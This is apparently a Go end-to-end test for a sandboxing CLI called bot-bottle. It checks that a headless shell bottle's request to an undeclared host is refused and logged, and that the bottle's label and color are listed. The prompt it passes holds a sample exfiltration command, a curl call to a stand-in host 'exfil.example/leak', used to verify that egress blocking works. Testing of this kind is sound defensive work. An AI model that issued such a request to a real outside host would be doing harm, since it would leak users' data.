package e2e

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/bot-bottle/bot-bottle/test/e2e/harness"
)

// TestLogsShowsARefusedRequest starts the built-in shell bottle headless
// through the CLI, as a user would, with a prompt that asks the proxy for
// a host no route names; "bot-bottle logs SLUG egress" then shows the
// refusal, "logs SLUG attest" the probes start ran, and list shows the
// bottle's --label and --color.
func TestLogsShowsARefusedRequest(t *testing.T) {
	e := setup(t)
	harness.Base(t, e.eng)
	home := t.TempDir()
	run := func(args ...string) (string, string, int) {
		t.Helper()
		rc, out, errOut := cliRun(t, e, home, args...)
		return out, errOut, rc
	}
	out, errOut, rc := run("start", "--headless", "--label", "e2e logs", "--color", "cyan",
		"--prompt", "curl -sS -o /dev/null https://exfil.example/leak; echo curl=$?")
	if rc != 0 || !strings.Contains(out, "curl=") {
		t.Fatalf("start: exit %d\nstdout %s\nstderr %s", rc, out, errOut)
	}
	if strings.Contains(out, "curl=0\n") {
		t.Fatalf("the request to an undeclared host succeeded: %s", out)
	}
	dirs, _ := filepath.Glob(filepath.Join(home, ".bot-bottle/state/shell-*"))
	if len(dirs) != 1 {
		t.Fatalf("state dirs: %v", dirs)
	}
	slug := filepath.Base(dirs[0])

	out, errOut, rc = run("logs", slug, "egress")
	if rc != 0 || !strings.Contains(out, "REFUSE CONNECT https://exfil.example") {
		t.Errorf("logs: exit %d\nstdout %s\nstderr %s", rc, out, errOut)
	}
	if b, _ := os.ReadFile(filepath.Join(dirs[0], "logs", "egress.jsonl")); !bytes.Contains(b, []byte(`"host":"exfil.example"`)) {
		t.Errorf("egress.jsonl lacks the refusal:\n%s", b)
	}

	// start attested the bottle first: the probes are in the same view.
	out, errOut, rc = run("logs", slug, "attest")
	if rc != 0 || !strings.Contains(out, "attest    closed start: ") || strings.Contains(out, "LEAKED") {
		t.Errorf("logs attest: exit %d\nstdout %s\nstderr %s", rc, out, errOut)
	}

	out, errOut, rc = run("list", "--json")
	var rows []struct{ Slug, Label, Color string }
	if rc != 0 || json.Unmarshal([]byte(out), &rows) != nil {
		t.Fatalf("list: exit %d %s %s", rc, out, errOut)
	}
	found := false
	for _, r := range rows {
		if r.Slug == slug {
			found = true
			if r.Label != "e2e logs" || r.Color != "cyan" {
				t.Errorf("list row = %+v, want label \"e2e logs\" and color cyan", r)
			}
		}
	}
	if !found {
		t.Errorf("list does not show %s: %s", slug, out)
	}
}
